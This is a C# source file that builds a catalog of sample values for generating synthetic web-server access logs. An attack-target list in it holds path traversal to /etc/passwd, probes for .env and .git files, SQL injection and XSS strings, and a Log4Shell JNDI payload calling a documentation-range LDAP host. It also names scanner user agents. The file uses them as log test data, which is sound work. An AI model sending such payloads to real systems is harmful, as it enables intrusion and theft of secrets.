namespace FastLog.Generation.Samples;

/// <summary>
/// The values the sample logs draw from. Addresses come from the documentation ranges
/// (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32; RFC 5737, RFC 3849) plus a few
/// private and loopback ones; host names use example.* (RFC 2606). The order of every list is
/// part of the samples' bytes: a pick is an index into it.
/// </summary>
internal static class SampleCatalog
{
    public static readonly string[] ClientsV4 =
    [
        "192.0.2.10", "192.0.2.11", "192.0.2.77", "192.0.2.200",
        "198.51.100.4", "198.51.100.23", "198.51.100.42", "198.51.100.250",
        "203.0.113.5", "203.0.113.9", "203.0.113.66", "203.0.113.129",
        "10.0.0.15", "10.20.30.40", "172.16.5.9", "127.0.0.1",
    ];

    public static readonly string[] ClientsV6 = ["2001:db8::1", "2001:db8:85a3::8a2e:370:7334", "2001:db8:1:2::ff", "::1", "fe80::1c2d:3eff:fe4f:5a6b"];

    public static readonly string[] ClientHosts = ["crawler-7.example.net"];

    /// <summary>Heavy hitters first: a few clients make most of the traffic, as in real logs.</summary>
    public static readonly (string Value, int Weight)[] ClientWeights =
    [
        .. ClientsV4[..3].Select(ip => (ip, 12)), .. ClientsV4[3..].Select(ip => (ip, 3)),
        .. ClientsV6.Select(ip => (ip, 2)), .. ClientHosts.Select(host => (host, 2)),
    ];

    public static readonly string[] Users = ["alice", "bob", "svc-deploy"];

    public static readonly string[] Browsers =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_3) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Safari/605.1.15",
        "Mozilla/5.0 (X11; Linux x86_64; rv:123.0) Gecko/20100101 Firefox/123.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66",
    ];

    public static readonly string[] Bots =
    [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
        "Mozilla/5.0 (compatible; ExampleCrawler/1.4; +https://crawler.example.net/about)",
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Wget/1.21.3",
    ];

    /// <summary>What attack requests carry: the scanners, then the tools among <see cref="Bots"/>.</summary>
    public static readonly string[] AttackAgents = ["sqlmap/1.7.2#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)", .. Bots[3..]];

    /// <summary>User agents with escaped quotes, as Apache writes them (\" inside the quoted field).</summary>
    public static readonly string[] EscapedAgents =
    [
        "Mozilla/5.0 (compatible; \\\"QuotedBot\\\"/1.0; +https://bot.example.org)",
        "Custom-Agent \\\"beta\\\" build 7",
    ];

    public static readonly string[] Referers =
    [
        "https://www.example.com/",
        "https://www.example.com/blog/2024/03/release-notes",
        "https://search.example.org/search?q=fast+log+analyzer&lang=en",
        "https://shop.example.com/cart?step=2",
        "http://localhost:8080/dashboard",
        "android-app://com.example.reader/",
    ];

    public static readonly string[] Static =
    [
        "/", "/index.html", "/about", "/pricing", "/blog/", "/blog/2024/03/release-notes",
        "/static/css/site.css", "/static/js/app.js", "/static/img/logo.png", "/favicon.ico",
        "/robots.txt", "/sitemap.xml", "/docs/getting-started", "/docs/cli#analyze", "/downloads/fastlog-0.1.0.tar.gz",
    ];

    public static readonly string[] Searches =
    [
        "/search?q=log+analyzer", "/search?q=nginx%20timeouts&page=2", "/search?q=%E2%9C%93&lang=de",
        "/products?id=42&sort=price_desc", "/products?category=shoes&size=10&color=blue",
    ];

    public static readonly string[] Uuids =
    [
        "3f1c2a9e-8b7d-4e6f-9a0b-1c2d3e4f5a6b", "a0b1c2d3-e4f5-4a6b-8c7d-9e0f1a2b3c4d",
        "deadbeef-0000-4000-8000-123456789abc",
    ];

    public static readonly string[] AttackTargets =
    [
        "/wp-login.php", "/.env", "/.git/config", "/cgi-bin/../../../../etc/passwd",
        "/index.php?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
        "/phpmyadmin/index.php", "/api/v1/users?name=${jndi:ldap://203.0.113.66/a}",
    ];

    public static readonly (string Value, int Weight)[] Protocols = [("HTTP/1.1", 8), ("HTTP/2.0", 3), ("HTTP/1.0", 1)];
}
